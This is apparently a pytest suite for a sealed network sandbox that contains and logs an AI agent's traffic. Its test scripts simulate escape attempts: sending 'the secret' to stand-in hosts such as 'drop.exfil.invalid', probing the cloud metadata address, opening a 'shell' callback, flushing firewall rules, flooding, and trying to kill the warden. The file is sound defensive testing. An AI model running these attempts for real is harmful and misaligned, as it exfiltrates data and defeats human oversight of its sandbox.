"""A sealed network: services reach each other, everything else leads nowhere and is written down."""

from __future__ import annotations

import base64
import json
import shutil
import socket
import subprocess
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from harness.protocols import Sandbox
from harness.sandbox.hostside import host_addresses, nonce_listener
from harness.sandbox.machines import DockerSandboxes
from harness.schema.task import Collect

BOX = {"image": "harness/base", "user": "nobody", "memory": "128m"}
WEB = {
    "image": "harness/base",
    "user": "nobody",
    "command": ["python3", "-m", "http.server", "8000"],
    "ready": {"tcp": 8000},
    "memory": "128m",
}
Record = Mapping[str, Any]

ATTEMPTS = """
import socket, sys
neighbour, gateway, host, port = sys.argv[1:]
V4, V6, TCP, UDP = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM
def tcp(family, address, port):
    s = socket.socket(family, TCP); s.settimeout(2); s.connect((address, port)); s.sendall(b"by tcp")
def udp(family, address, port):
    s = socket.socket(family, UDP); s.sendto(b"by udp", (address, port))
def icmp(address):
    socket.socket(V4, UDP, socket.IPPROTO_ICMP).sendto(b"\\x08" + b"\\0" * 7 + b"by icmp", (address, 0))
for act in (
    lambda: tcp(V4, "192.0.2.7", 443),
    lambda: udp(V4, "192.0.2.7", 5000),
    lambda: udp(V4, "255.255.255.255", 5000),
    lambda: icmp("192.0.2.7"),
    lambda: tcp(V6, "2001:db8::7", 443),
    lambda: udp(V6, "2001:db8::7", 5000),
    lambda: tcp(V4, "169.254.169.254", 80),
    lambda: tcp(V4, gateway, 22),
    lambda: tcp(V4, neighbour, 8000),
    lambda: tcp(V4, host, int(port)),
    lambda: socket.getaddrinfo("secret-part.exfil.invalid", 80),
    lambda: udp(V4, "8.8.8.8", 53),
):
    try:
        print("done", act())
    except OSError as error:
        print("denied", error)
"""


@contextmanager
def sandbox(
    sandboxes: DockerSandboxes, order: Callable[..., Any], **fields: Any
) -> Iterator[Sandbox]:
    fields.setdefault("services", {"box": BOX, "web": WEB})
    outside = fields.pop("outside", "refuse")
    changes = {name: fields.pop(name) for name in ("capture_bytes", "fence") if name in fields}
    made = order(fields.pop("services"), agent="box", **fields)
    made = type(made)(**{**vars(made), "outside": outside, **changes})
    with sandboxes.open(made) as opened:
        yield opened


def records(opened: Sandbox, folder: Path, name: str = "network") -> list[Record]:
    opened.collect(Collect(), {}, folder)
    lines = (folder / "sensors" / f"{name}.jsonl").read_text().splitlines()
    return [json.loads(line) for line in lines]


def python(opened: Sandbox, code: str, *arguments: str, service: str | None = None) -> str:
    answer = opened.exec(["python3", "-c", code, *arguments], service=service, timeout_seconds=60)
    assert answer.exit_code == 0, answer.stderr.decode()
    return answer.stdout.decode()


FETCH = "import sys,urllib.request as u; print(u.urlopen(sys.argv[1], timeout=5).status)"


def fetch(opened: Sandbox, url: str) -> str:
    return python(opened, FETCH, url)


def found(rows: Sequence[Record], **wanted: Any) -> list[Record]:
    return [row for row in rows if all(row.get(key) == value for key, value in wanted.items())]


def address_of(opened: Sandbox, name: str) -> str:
    code = "import sys, socket; print(socket.gethostbyname(sys.argv[1]))"
    return python(opened, code, name).strip()


def gateway_of(address: str) -> str:
    """The last address of a segment."""
    start, _, last = address.rpartition(".")
    return f"{start}.{(int(last) | 15) - 1}"


def said(row: Record) -> bytes:
    return base64.b64decode(row["data"])


@pytest.mark.parametrize("outside", ["refuse", "sinkhole"])
def test_every_way_out_leads_nowhere_and_is_in_the_log(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path, outside: str
) -> None:
    with (
        sandbox(docker_sandboxes, order) as neighbour,
        sandbox(docker_sandboxes, order, outside=outside) as opened,
        nonce_listener("by tcp") as listener,
    ):
        address = neighbour.exec(["hostname", "-i"], service="web").stdout.decode().strip()
        own = opened.exec(["hostname", "-i"], service="web").stdout.decode().strip()
        gateway = gateway_of(own)
        host = host_addresses()[0]
        printed = python(opened, ATTEMPTS, address, gateway, host, str(listener.port))
        assert fetch(opened, "http://web:8000/") == "200\n"
        assert not listener.heard()
        rows = records(opened, tmp_path)
    action = {"refuse": "refused", "sinkhole": "sunk"}[outside]
    for protocol, target, port in [
        ("tcp", "192.0.2.7", 443),
        ("udp", "192.0.2.7", 5000),
        ("icmp", "192.0.2.7", None),
        ("tcp", "2001:db8::7", 443),
        ("udp", "2001:db8::7", 5000),
        ("tcp", "169.254.169.254", 80),
        ("tcp", gateway, 22),
        ("tcp", address, 8000),
        ("tcp", host, listener.port),
        ("udp", "8.8.8.8", 53),
    ]:
        wanted = {"kind": "packet", "source": "agent", "protocol": protocol, "action": action}
        hits = found(rows, **wanted, target=target, port=port)
        assert hits, (protocol, target, port)
        if protocol != "tcp":
            assert said(hits[0]) == f"by {protocol}".encode()
    assert found(rows, kind="dns", name="secret-part.exfil.invalid", action=action)
    assert found(rows, kind="packet", port=8000, name="web", action="allowed")
    assert rows[-1]["kind"] == "end"
    assert rows[-1]["lost"] == {}
    assert all(abs(row["time"] - rows[0]["time"]) < 600 for row in rows)
    if outside == "refuse":
        assert printed.count("denied") >= 6
    else:
        streams = found(rows, kind="stream", target="192.0.2.7", port=443)
        assert said(streams[0]) == b"by tcp"
        named = found(rows, kind="dns", name="secret-part.exfil.invalid")[0]
        assert named["answer"].startswith("203.0.113.")


def test_an_invented_address_keeps_its_name(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path
) -> None:
    send = """
import socket
s = socket.create_connection(("drop.exfil.invalid", 4444), 5); s.sendall(b"the secret")
"""
    with sandbox(docker_sandboxes, order, outside="sinkhole") as opened:
        python(opened, send)
        rows = records(opened, tmp_path)
    stream = found(rows, kind="stream", name="drop.exfil.invalid", port=4444)[0]
    assert said(stream) == b"the secret"


def test_what_a_service_tries_is_in_the_log_with_its_name(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path
) -> None:
    attempt = """
import socket, sys
for act in (lambda: socket.create_connection(("192.0.2.9", 80), 2),
            lambda: socket.create_connection((sys.argv[1], 22), 2),
            lambda: socket.getaddrinfo("from-the-service.invalid", 80)):
    try: act(); print("open")
    except OSError: print("denied")
"""
    with sandbox(docker_sandboxes, order) as opened:
        own = opened.exec(["hostname", "-i"], service="web").stdout.decode().strip()
        printed = python(opened, attempt, gateway_of(own), service="web")
        assert printed == "denied\ndenied\ndenied\n"
        rows = records(opened, tmp_path)
    assert found(rows, kind="packet", source="web", target=gateway_of(own), port=22)
    assert found(rows, kind="packet", source="web", target="192.0.2.9", action="refused")
    assert found(rows, kind="dns", source="web", name="from-the-service.invalid")


def test_a_service_does_not_reach_the_host_or_another_sandbox(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path
) -> None:
    attempt = """
import socket, sys
for target in sys.argv[1:]:
    host, _, port = target.rpartition(":")
    try:
        s = socket.create_connection((host, int(port)), 2)
        s.sendall(b"from a service")
    except OSError: pass
"""
    with (
        sandbox(docker_sandboxes, order) as neighbour,
        sandbox(docker_sandboxes, order) as opened,
        nonce_listener("from a service") as listener,
    ):
        other = neighbour.exec(["hostname", "-i"], service="web").stdout.decode().strip()
        targets = [f"{each}:{listener.port}" for each in host_addresses()] + [f"{other}:8000"]
        python(opened, attempt, *targets, service="web")
        assert not listener.heard()
        rows = records(opened, tmp_path)
    for target in targets:
        host, _, port = target.rpartition(":")
        wanted = {"source": "web", "target": host, "port": int(port), "action": "refused"}
        assert found(rows, kind="packet", **wanted), target


def test_a_lonely_machine_can_be_sealed_too(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path
) -> None:
    attempt = """
import socket
try: socket.create_connection(("192.0.2.9", 80), 2); print("open")
except OSError as error: print(error)
"""
    with sandbox(
        docker_sandboxes, order, services={"box": BOX}, network={"mode": "sealed"}
    ) as opened:
        assert "refused" in python(opened, attempt)
        assert all(each.held for each in opened.try_boundary())
        rows = records(opened, tmp_path)
    assert found(rows, kind="packet", source="agent", target="192.0.2.9", port=80)


def test_segments_the_agent_is_not_on_are_out_of_reach_and_watched(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path
) -> None:
    services = {"box": BOX, "web": WEB, "store": WEB}
    segments = {"front": ["box", "web"], "back": ["web", "store"]}
    attempt = """
import socket, sys
try: socket.create_connection((sys.argv[1], 8000), 2); print("open")
except OSError: print("denied")
"""
    with sandbox(
        docker_sandboxes, order, services=services, network={"segments": segments}
    ) as opened:
        store = opened.exec(["hostname", "-i"], service="store").stdout.decode().strip()
        assert python(opened, attempt, store) == "denied\n"
        assert python(opened, attempt, "store") == "denied\n"
        assert python(opened, attempt, "store", service="web") == "open\n"
        assert python(opened, attempt, "192.0.2.3", service="store") == "denied\n"
        rows = records(opened, tmp_path)
        beyond = (tmp_path / "sensors" / "network-beyond.jsonl").read_text()
    assert found(rows, source="agent", target=store, port=8000, action="refused")
    assert found(rows, kind="dns", name="store", action="refused")
    assert found([json.loads(line) for line in beyond.splitlines()], source="store", port=8000)


def test_a_service_reaches_the_agent_back(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path
) -> None:
    listen = """
import socket
s = socket.create_server(("", 9001)); s.settimeout(20); print(s.accept()[0].recv(10).decode())
"""
    call = """
import socket, time
for _ in range(50):
    try: socket.create_connection(("box", 9001), 2).sendall(b"shell"); break
    except OSError: time.sleep(0.1)
"""
    with sandbox(docker_sandboxes, order) as opened:
        with opened.open_program(f"python3 -c '{listen}'") as program:
            python(opened, call, service="web")
            heard = program.read_until("shell", quiet_seconds=5, timeout_seconds=20)
        rows = records(opened, tmp_path)
    assert "shell" in heard
    assert found(rows, kind="packet", source="web", port=9001, action="allowed")


@pytest.mark.parametrize("outside", ["refuse", "sinkhole"])
def test_the_boundary_is_tried_before_and_after(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path, outside: str
) -> None:
    with sandbox(docker_sandboxes, order, outside=outside) as opened:
        for _ in range(2):
            probes = opened.try_boundary()
            assert {"tcp", "udp", "icmp", "dns", "ipv6", "metadata", "host"} <= {
                each.probe for each in probes
            }
            assert all(each.held for each in probes), probes
        rows = records(opened, tmp_path)
    assert {row["source"] for row in rows if row["kind"] != "end"} == {"self-test"}


def test_the_boundary_test_notices_rules_that_are_gone(
    docker_sandboxes: DockerSandboxes, order: Any
) -> None:
    with sandbox(docker_sandboxes, order) as opened:
        warden = opened.wardens["network"]  # type: ignore[attr-defined]
        api = warden.engine.api
        made = api.exec_create(warden.id, ["nft", "flush", "ruleset"])
        api.exec_start(made["Id"])
        probes = opened.try_boundary()
    assert {each.probe for each in probes if not each.held} >= {"tcp", "dns", "metadata"}


def test_packets_can_be_captured_for_tshark(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path
) -> None:
    with sandbox(docker_sandboxes, order, capture_bytes=200_000) as opened:
        python(opened, ATTEMPTS, "198.18.0.9", "198.18.0.1", "192.0.2.200", "1")
        fetch(opened, "http://web:8000/")
        flood = "import socket\ns=socket.socket(2,2)\nfor _ in range(400): s.sendto(b'x'*1000,('192.0.2.1',9))"
        opened.exec(["python3", "-c", flood])
        rows = records(opened, tmp_path)
    pcap = tmp_path / "sensors" / "network.pcap"
    assert pcap.stat().st_size <= 200_100
    assert rows[-1]["lost"]["capture"] > 0
    if shutil.which("tshark") is None:
        pytest.skip("tshark is not installed; the capture was made all the same")
    shown = subprocess.run(["tshark", "-r", str(pcap)], capture_output=True, text=True, check=True)
    assert "192.0.2.7" in shown.stdout
    assert "GET / HTTP/1.1" in shown.stdout


def test_a_flood_is_bounded_counted_and_hides_nothing_new(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path
) -> None:
    flood = """
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(60000):
    try: s.sendto(b"noise", ("192.0.2.1", 9))
    except OSError: pass
s.sendto(b"the needle", ("192.0.2.99", 9))
"""
    with sandbox(docker_sandboxes, order) as opened:
        python(opened, flood)
        rows = records(opened, tmp_path)
        assert all(each.held for each in opened.try_boundary())
    assert said(found(rows, target="192.0.2.99")[0]) == b"the needle"
    lost = rows[-1]["lost"]
    kept = len(found(rows, target="192.0.2.1"))
    assert kept + lost.get("rate", 0) + lost.get("kernel", 0) == 60000
    assert lost


def test_an_agent_may_talk_to_itself_unlogged(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path
) -> None:
    talk = """
import socket
for address in ("127.0.0.1", "::1", socket.gethostbyname("box")):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    server = socket.create_server((address, 0), family=family)
    client = socket.create_connection(server.getsockname()[:2], 3)
    server.accept()[0].sendall(b"hello")
    print(client.recv(10).decode())
"""
    with sandbox(docker_sandboxes, order) as opened:
        assert python(opened, talk).split() == ["hello"] * 3
        rows = records(opened, tmp_path)
    assert not found(rows, kind="packet", source="agent")


def test_a_warden_outlives_what_an_agent_throws_at_it(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path
) -> None:
    throw = """
import os, socket
kept = []
for number in range(700):
    for address in (("192.0.2.1", 53), ("192.0.2.1", 443)):
        try: kept.append(socket.create_connection(address, 2))
        except OSError: pass
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for number in range(2000):
    s.sendto(os.urandom(number % 60), ("127.0.0.11", 53))
"""
    with sandbox(docker_sandboxes, order, outside="sinkhole") as opened:
        python(opened, throw)
        assert all(each.held for each in opened.try_boundary())
        rows = records(opened, tmp_path)
    assert len(found(rows, kind="packet", target="192.0.2.1", port=443)) >= 690
    asked = len([row for row in found(rows, kind="dns") if row["source"] == "agent"])
    lost = rows[-1]["lost"]
    unasked = lost.get("questions", 0) + lost.get("too many connections", 0)
    assert asked + unasked + lost.get("rate", 0) >= 2700
    assert rows[-1]["kind"] == "end"


def test_the_agent_has_no_hold_on_its_warden(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path
) -> None:
    grab = """
import os, signal, socket
for port in (61053, 61080, 61099):
    try: socket.create_server(("", port)); print("took", port)
    except OSError: pass
try: os.kill(-1, signal.SIGKILL)
except OSError: pass
"""
    with sandbox(docker_sandboxes, order) as opened:
        opened.exec(["python3", "-c", grab])
        assert "took" not in opened.exec(["python3", "-c", grab]).stdout.decode()
        assert opened.exec(["ls", "/log"]).exit_code != 0
        assert opened.exec(["nft", "flush", "ruleset"]).exit_code != 0
        assert all(each.held for each in opened.try_boundary())


class TestAllowing:
    """Mode `allow`: listed hosts are passed on and written down, everything else is sealed."""

    @pytest.fixture
    def outer(self) -> Iterator[tuple[str, int]]:
        """A server of ours on an address of this machine."""
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        class Answer(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"from beyond")

            def log_message(self, *_: Any) -> None:
                """Nothing."""

        with ThreadingHTTPServer(("", 0), Answer) as server:
            threading.Thread(target=server.serve_forever, daemon=True).start()
            yield host_addresses()[0], server.server_port
            server.shutdown()

    def test_a_listed_host_answers_and_the_rest_does_not(
        self,
        docker_sandboxes: DockerSandboxes,
        order: Any,
        tmp_path: Path,
        outer: tuple[str, int],
    ) -> None:
        address, port = outer
        network = {"mode": "allow", "allow": [f"{address}:{port}"]}
        ask = """
import sys, urllib.request as u
r = u.Request(sys.argv[1], headers={"Host": sys.argv[2]} if len(sys.argv) > 2 else {})
try: print(u.urlopen(r, timeout=5).read().decode())
except OSError as error: print("denied", error)
"""
        with sandbox(docker_sandboxes, order, services={"box": BOX}, network=network) as opened:
            assert python(opened, ask, f"http://{address}:{port}/") == "from beyond\n"
            other = python(opened, ask, f"http://{address}:{port}/", "other.invalid")
            assert other.startswith("denied")
            with socket.create_server((address, 0)) as unlisted:
                elsewhere = f"http://{address}:{unlisted.getsockname()[1]}/"
                assert python(opened, ask, elsewhere).startswith("denied")
            assert python(opened, ask, "http://192.0.2.5/").startswith("denied")
            assert all(each.held for each in opened.try_boundary())
            rows = records(opened, tmp_path)
        passage = found(rows, kind="passage", action="allowed")[0]
        assert (passage["target"], passage["port"]) == (address, port)
        assert said(passage).startswith(b"GET / HTTP/1.1")
        assert b"from beyond" in base64.b64decode(passage["answer"])
        assert found(rows, kind="passage", action="refused", spoken="other.invalid")
        assert found(rows, kind="packet", target="192.0.2.5", action="refused")


FENCED = """
import socket, sys
web, other = sys.argv[1:]
V4, TCP, UDP = socket.AF_INET, socket.SOCK_STREAM, socket.SOCK_DGRAM
def tcp(address, port):
    s = socket.socket(V4, TCP); s.settimeout(2); s.connect((address, port)); return "open"
def udp(address, port):
    s = socket.socket(V4, UDP); s.settimeout(2); s.connect((address, port)); s.send(b"by udp"); s.send(b"x")
for act in (
    lambda: tcp(web, 8000),
    lambda: tcp(web, 8001),
    lambda: tcp(other, 8000),
    lambda: udp(other, 8000),
    lambda: udp(web, 8001),
):
    try:
        print(act())
    except OSError as error:
        print("denied")
"""


def test_inside_a_fence_only_what_is_in_scope_is_reached_and_the_rest_is_noted(
    docker_sandboxes: DockerSandboxes, order: Any, tmp_path: Path
) -> None:
    services = {"box": BOX, "web": WEB, "other": WEB}
    with sandbox(docker_sandboxes, order, services=services, fence=["web:8000"]) as opened:
        assert all(each.held for each in opened.try_boundary())
        web, other = (address_of(opened, name) for name in ("web", "other"))
        said = python(opened, FENCED, web, other).split()
        assert fetch(opened, "http://web:8000/") == "200\n"
        # The fence is the agent's alone.
        assert python(opened, FETCH, "http://web:8000/", service="other") == "200\n"
        rows = records(opened, tmp_path)
    assert said == ["open", "denied", "denied", "denied", "denied"]
    barred = {(row["name"], row["protocol"], row["port"]) for row in found(rows, action="barred")}
    assert barred == {
        ("web", "tcp", 8001),
        ("other", "tcp", 8000),
        ("other", "udp", 8000),
        ("web", "udp", 8001),
    }
    assert {row["source"] for row in found(rows, action="barred")} == {"agent"}
    assert {row["port"] for row in found(rows, kind="packet", name="web", action="allowed")} == {
        8000
    }
